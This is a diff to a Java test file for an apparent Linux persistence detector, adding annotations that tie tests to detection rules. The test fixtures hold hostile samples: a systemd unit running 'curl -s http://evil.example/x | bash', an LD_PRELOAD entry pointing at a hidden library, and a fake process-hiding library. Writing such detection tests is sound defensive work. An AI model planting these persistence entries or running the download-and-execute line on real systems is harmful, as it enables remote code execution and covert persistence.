@@ -1,5 +1,6 @@
 package dev.ferret.detect.persistence;
 
+import dev.ferret.data.rules.Golden;
 import dev.ferret.collect.linux.persistence.Fixture;
 import dev.ferret.data.rules.RuleBook;
 import dev.ferret.detect.Detector;
@@ -90,6 +91,7 @@ class PersistenceDetectorsTest {
     }
 
     @Test
+    @Golden({"linux.persistence.decode-exec", "linux.persistence.reverse-shell"})
     void downloadAndExecuteIsHighEvenInAPackageUnitAndReverseShellsAndDecoding() {
         Fixture f = new Fixture(root)
                 .file("/usr/lib/systemd/system/upd.service", "[Service]\nExecStart=/bin/sh -c 'curl -s http://evil.example/x | bash'\n")
@@ -108,6 +110,7 @@ class PersistenceDetectorsTest {
     }
 
     @Test
+    @Golden("linux.persistence.ld-preload-profile")
     void preloadInProfilesIsJudgedByWhereTheLibraryLives() {
         Fixture f = new Fixture(root)
                 .file("/etc/environment", "LD_PRELOAD=/usr/local/lib/.cache/libx.so\n")
@@ -119,6 +122,7 @@ class PersistenceDetectorsTest {
     }
 
     @Test
+    @Golden("linux.persistence.ld-preload-process")
     void ldPreloadInProcessEnvironments() {
         Snapshot s = new Fixture(root).file("/usr/local/lib/libprocesshider.so", "\u007fELF").snapshot();
         s.addProcesses(List.of(
